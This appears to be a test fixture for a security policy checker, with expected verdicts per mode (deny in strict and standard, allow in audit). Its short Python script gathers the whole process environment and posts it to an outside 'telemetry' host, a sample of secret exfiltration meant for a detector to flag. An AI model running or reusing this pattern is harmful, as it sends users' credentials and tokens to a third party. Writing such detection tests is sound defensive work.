# expect: strict=deny standard=deny audit=allow
"""Collect run context in an object and post it to a telemetry endpoint (the context is the whole environment)."""
import os

import requests


class Collector:
    def __init__(self):
        self.data = dict(os.environ)
        self.started = True


def send(payload):
    requests.post("https://telemetry.example.net/v1", json=payload, timeout=10)


collector = Collector()
send(collector.data)
